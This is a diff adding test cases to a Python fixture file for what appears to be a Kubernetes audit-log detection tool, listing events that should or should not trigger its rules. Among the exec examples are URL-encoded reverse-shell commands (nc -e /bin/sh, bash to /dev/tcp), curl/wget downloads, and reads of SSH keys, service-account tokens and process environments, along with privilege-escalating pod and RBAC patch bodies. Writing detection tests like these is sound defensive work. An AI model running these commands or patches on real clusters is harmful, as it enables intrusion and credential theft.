@@ -44,10 +44,43 @@ def workload(container: dict[str, Any] | None = None, **spec: Any) -> dict[str, 
     return {"kind": "Deployment", "spec": {"replicas": 1, "template": pod(container, **spec)}}
 
 
+ADMIN_OF_THE_SYSTEM = {"securityContext": {"capabilities": {"drop": ["ALL"], "add": ["SYS_ADMIN"]}}}
+ACCOUNT_BINDING = {
+    **binding("view"),
+    "subjects": [{"kind": "ServiceAccount", "name": "a", "namespace": "default"}],
+}
 PRIVILEGED = {"securityContext": {"privileged": True}}
 NODE_ROOT = [{"name": "node", "hostPath": {"path": "/", "type": ""}}]
 NODE_KEYS = [{"name": "keys", "hostPath": {"path": "/etc/kubernetes/pki", "type": ""}}]
 NODE_DATA = [{"name": "data", "hostPath": {"path": "/srv/data", "type": ""}}]
+SET_IMAGE = {
+    "spec": {
+        "template": {
+            "spec": {
+                "$setElementOrder/containers": [{"name": "a"}],
+                "containers": [{"image": "busybox:2", "name": "a"}],
+            }
+        }
+    }
+}
+SIDECAR = {"spec": {"template": {"spec": {"containers": [{"name": "b", "image": "redis"}]}}}}
+
+
+def host_path(path: str) -> list[dict[str, Any]]:
+    return [{"name": "node", "hostPath": {"path": path}}]
+
+
+def operation(path: str, value: Any, op: str = "add") -> list[dict[str, Any]]:
+    """A JSON patch of one operation, as kubectl patch --type=json sends it."""
+    return [{"op": op, "path": path, "value": value}]
+
+
+def reordered(path: str, value: Any) -> list[dict[str, Any]]:
+    """The same with its members in another order."""
+    return [{"value": value, "op": "replace", "path": path}]
+
+
+CONTAINER = "/spec/template/spec/containers/0/securityContext"
 LAST_APPLIED = {
     "metadata": {"annotations": {"last-applied-configuration": '{"securityContext":{"privileged":true}}'}},
 }
@@ -118,6 +151,21 @@ FIRES: dict[str, tuple[Example, ...]] = {
             query="?command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token",
         ),
         E(f"{ALICE} get pods/exec default/web", 101, query="?command=curl", audit_id='a"b'),
+        *(
+            E(f"{ALICE} get pods/exec default/web", 101, query=f"?command=sh&command=-c&command={line}")
+            for line in (
+                "curl+http%3A%2F%2Fa",
+                "id%3B%20wget%20a",
+                "nc+-e+%2Fbin%2Fsh+a+1",
+                "cat+%2Fproc%2F1%2Fenviron",
+                "python3+-c+%27import+os%27",
+                "bash+-i+%3E%26+%2Fdev%2Ftcp%2Fa%2F1",
+                "wget%20metadata.google.internal",
+            )
+        ),
+        E(f"{ALICE} get pods/exec default/web", 101, query="?command=python3&command=-c&command=1"),
+        E(f"{ALICE} get pods/exec default/web", 101, query="?command=cat&command=%2Fproc%2F1%2Fenviron"),
+        E(f"{ALICE} get pods/exec default/web", 101, query="?command=cat&command=%2Froot%2F.ssh%2Fid_rsa"),
     ),
     "attach-or-port-forward": (
         E(f"{ALICE} get pods/attach default/web", 101, STARTED),
@@ -157,14 +205,21 @@ FIRES: dict[str, tuple[Example, ...]] = {
             f"{ALICE} patch rolebindings default/a",
             body={"subjects": [{"name": "system:authenticated"}]},
         ),
+        E(
+            f"{ALICE} patch clusterrolebindings a",
+            body=operation("/subjects/-", {"kind": "Group", "name": "system:authenticated"}),
+        ),
     ),
     "wildcard-role": (
         E(f"{ALICE} create clusterroles", 201, name="a", body=role("*")),
         E(f"{ALICE} update roles default/a", body=role("get", resources=("pods", "*"))),
+        E(f"{ALICE} patch clusterroles a", body=operation("/rules/0/verbs/-", "*")),
+        E(f"{ALICE} patch clusterroles a", body=reordered("/rules/0/resources", ["pods", "*"])),
     ),
     "escalating-verb-granted": (
         E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", "escalate")),
         E(f"{BOT} patch roles default/a", body=role("impersonate")),
+        E(f"{ALICE} patch clusterroles a", body=operation("/rules/0/verbs/-", "escalate")),
     ),
     "rbac-change-rate": (E(f"{ALICE} delete rolebindings default/a", name="a-{n}", times=21),),
     "rbac-changed-by-workload": (E(f"{BOT} create rolebindings default/", 201, name="a"),),
@@ -173,18 +228,44 @@ FIRES: dict[str, tuple[Example, ...]] = {
         E(f"{ALICE} create pods default/", 201, name="a", body=pod(PRIVILEGED)),
         E(f"{ALICE} patch deployments default/a", body=workload(PRIVILEGED)),
         E("system:serviceaccount:argo:workflow create jobs default/", 201, name="a", body=workload(PRIVILEGED)),
+        E(f"{ALICE} patch deployments default/a", body=operation(f"{CONTAINER}/privileged", True)),
+        E(f"{ALICE} patch deployments default/a", body=reordered(f"{CONTAINER}/privileged", True)),
+        E(f"{ALICE} patch deployments default/a", body=operation(CONTAINER, {"privileged": True})),
     ),
     "host-namespace": (
         E(f"{ALICE} create pods default/", 201, name="a", body=pod(hostPID=True)),
         E(f"{ALICE} create daemonsets default/", 201, name="a", body=workload(hostNetwork=True)),
+        E(f"{ALICE} patch deployments default/a", body=operation("/spec/template/spec/hostPID", True)),
     ),
     "sensitive-host-path": (
         E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=NODE_ROOT)),
         E(f"{ALICE} update deployments default/a", body=workload(volumes=NODE_KEYS)),
+        *(
+            E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=host_path(path)))
+            for path in (
+                "/var",
+                "/var/",
+                "/var/lib",
+                "/home",
+                "/home/alice",
+                "//etc",
+                "/./etc/kubernetes",
+                "/run/x.sock",
+            )
+        ),
+        E(
+            f"{ALICE} patch deployments default/a",
+            body=operation("/spec/template/spec/volumes/0/hostPath/path", "/etc", "replace"),
+        ),
+        E(
+            f"{ALICE} patch deployments default/a",
+            body=operation("/spec/template/spec/volumes/-", host_path("/etc")[0]),
+        ),
     ),
     "workload-in-kube-system": (
         E(f"{ALICE} create pods kube-system/", 201, name="a"),
         E(f"{ADMIN} patch daemonsets kube-system/kube-proxy"),
+        E(f"{ALICE} create pods kube-public/", 201, name="a"),
     ),
     "cluster-configuration-changed": (
         E(f"{ADMIN} update configmaps kube-system/kubeadm-config"),
@@ -206,6 +287,14 @@ FIRES: dict[str, tuple[Example, ...]] = {
             f"{ALICE} patch namespaces default",
             body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}}},
         ),
+        E(
+            f"{ALICE} patch namespaces default",
+            body=[{"op": "remove", "path": "/metadata/labels/pod-security.kubernetes.io~1enforce"}],
+        ),
+        E(
+            f"{ALICE} patch namespaces default",
+            body=operation("/metadata/labels/pod-security.kubernetes.io~1enforce", "privileged", "replace"),
+        ),
     ),
     "events-deleted": (
         E(f"{ALICE} deletecollection events default/"),
@@ -217,6 +306,49 @@ FIRES: dict[str, tuple[Example, ...]] = {
             annotations={"k8s.io/deprecated": "true", "k8s.io/removed-release": "1.40"},
             agent="old-operator/1.0",
         ),
+    ),
+    "sensitive-access-granted": (
+        E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", resources=("pods", "secrets"))),
+        E(f"{ALICE} patch roles default/a", body=operation("/rules/0/resources/-", "pods/exec")),
+        E(f"{BOT} update clusterroles a", body=role("create", resources=("serviceaccounts/token",))),
+    ),
+    "system-role-changed": (
+        E(f"{ALICE} patch clusterroles system:node"),
+        E(f"{BOT} delete clusterroles system:discovery"),
+        E(f"{ALICE} update roles kube-system/system:controller:bootstrap-signer"),
+    ),
+    "service-account-bound-cluster-wide": (
+        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=ACCOUNT_BINDING),
+        E(
+            f"{ALICE} patch clusterrolebindings a",
+            body=operation("/subjects/-", {"kind": "ServiceAccount", "name": "a"}),
+        ),
+    ),
+    "dangerous-capability": (
+        E(f"{ALICE} create pods default/", 201, name="a", body=pod(ADMIN_OF_THE_SYSTEM)),
+        E(f"{ALICE} update deployments default/a", body=workload(ADMIN_OF_THE_SYSTEM)),
+        E(f"{ALICE} patch deployments default/a", body=operation(f"{CONTAINER}/capabilities/add/-", "SYS_PTRACE")),
+    ),
+    "container-patched-in": (
+        E(f"{ALICE} patch deployments default/a", body=SIDECAR),
+        E(
+            f"{ALICE} patch deployments default/a",
+            body=operation("/spec/template/spec/containers/-", {"name": "b", "image": "redis"}),
+        ),
+    ),
+    "node-port-opened": (
+        E(f"{ALICE} create services default/", 201, name="a", body={"kind": "Service", "spec": {"type": "NodePort"}}),
+        E(f"{ALICE} patch services default/a", body=operation("/spec/type", "NodePort", "replace")),
+    ),
+    "kube-system-secrets-listed": (E(f"{BOT} list secrets kube-system/"),),
+    "secret-changed-by-person": (
+        E(f"{ALICE} update secrets default/db"),
+        E(f"{ALICE} delete secrets default/db"),
+        E(f"{ADMIN} create secrets default/", 201, name="db"),
+    ),
+    "attack-tool-used": (
+        E(f"{ALICE} list pods", agent="kube-hunter"),
+        E(f"{ANONYMOUS} get /version", 403, agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
     ),
 }
 
@@ -368,7 +500,11 @@ QUIET: dict[str, tuple[Example, ...]] = {
         E(f"{ALICE} create pods default/", 201, name="a", body=pod(hostUsers=True)),
         E(f"{ALICE} create pods default/", 201, name="a", body=pod(hostPID=False)),
     ),
-    "sensitive-host-path": (E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=NODE_DATA)),),
+    "sensitive-host-path": (
+        E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=NODE_DATA)),
+        E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=host_path("/var/log"))),
+        E(f"{ALICE} create pods default/", 201, name="a", body=pod(volumes=host_path("/etcd-data"))),
+    ),
     "workload-in-kube-system": (
         E(f"{CONTROLLER} create pods kube-system/", 201, name="a"),
         E(f"{ALICE} create pods default/", 201, name="a"),
@@ -404,4 +540,47 @@ QUIET: dict[str, tuple[Example, ...]] = {
         E(f"{BOT} list pods", agent="new-operator/2.0"),
         E(f"{MANAGER} list endpoints", annotations={"k8s.io/deprecated": "true"}),
     ),
+    "sensitive-access-granted": (
+        E(f"{ALICE} create clusterroles", 201, name="a", body=role("get", resources=("pods", "pods/log"))),
+        E(f"{ALICE} create clusterroles", 403, name="a", body=role("get", resources=("secrets",))),
+        E(f"{ALICE} create roles default/", 201, name="a", body=role("get", resources=("secrets",)), query=DRY_RUN),
+    ),
+    "system-role-changed": (
+        E(f"{ALICE} patch clusterroles reader"),
+        E(f"{ALICE} get clusterroles system:node"),
+        E("system:apiserver[system:masters] update clusterroles system:node"),
+    ),
+    "service-account-bound-cluster-wide": (
+        E(f"{ALICE} create clusterrolebindings", 201, name="a", body=binding("view")),
+        E(f"{ALICE} create rolebindings default/", 201, name="a", body=ACCOUNT_BINDING),
+    ),
+    "dangerous-capability": (
+        E(
+            f"{ALICE} create pods default/",
+            201,
+            name="a",
+            body=pod({"securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}}}),
+        ),
+        E(f"{ALICE} patch deployments default/a", body=operation(f"{CONTAINER}/capabilities/drop/-", "SYS_PTRACE")),
+    ),
+    "container-patched-in": (
+        E(f"{ALICE} patch deployments default/a", body=SET_IMAGE),
+        E(f"{ALICE} patch deployments default/a", body={"apiVersion": "apps/v1", **workload()}),
+        E(f"{ALICE} patch deployments default/a", body={"spec": {"replicas": 2}}),
+        E(f"{ALICE} create deployments default/", 201, name="a", body=workload()),
+    ),
+    "node-port-opened": (
+        E(f"{ALICE} create services default/", 201, name="a", body={"kind": "Service", "spec": {"type": "ClusterIP"}}),
+    ),
+    "kube-system-secrets-listed": (
+        E(f"{ALICE} list secrets default/"),
+        E(f"{ALICE} get secrets kube-system/a"),
+        E(f"{MANAGER} list secrets kube-system/"),
+    ),
+    "secret-changed-by-person": (
+        E(f"{BOT} update secrets default/db"),
+        E(f"{ALICE} update secrets default/db", 403),
+        E(f"{ALICE} get secrets default/db"),
+    ),
+    "attack-tool-used": (E(f"{ALICE} list pods"), E(f"{BOT} list pods", agent="operator/1.0 (linux/amd64)")),
 }
